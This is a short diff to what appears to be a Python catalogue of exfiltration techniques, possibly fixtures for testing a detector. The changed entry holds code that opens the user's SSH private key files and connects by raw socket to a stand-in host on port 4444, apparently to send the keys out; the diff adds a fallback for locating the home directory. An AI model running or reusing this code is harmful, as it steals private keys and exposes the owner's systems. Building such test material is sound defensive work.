@@ -73,7 +73,10 @@ FAMILIES = (
             note="the home of the password database, not of the variable; by a raw socket",
             enter=r"""
             import os, pwd, socket
-            home = pwd.getpwuid(os.getuid()).pw_dir
+            try:
+                home = pwd.getpwuid(os.getuid()).pw_dir
+            except KeyError:
+                home = os.path.expanduser("~")
             for name in ("id_ed25519", "id_rsa", "id_ecdsa"):
                 try:
                     with open(f"{home}/.ssh/{name}", "rb") as key, socket.create_connection(("198.51.100.9", 4444), 2) as out:
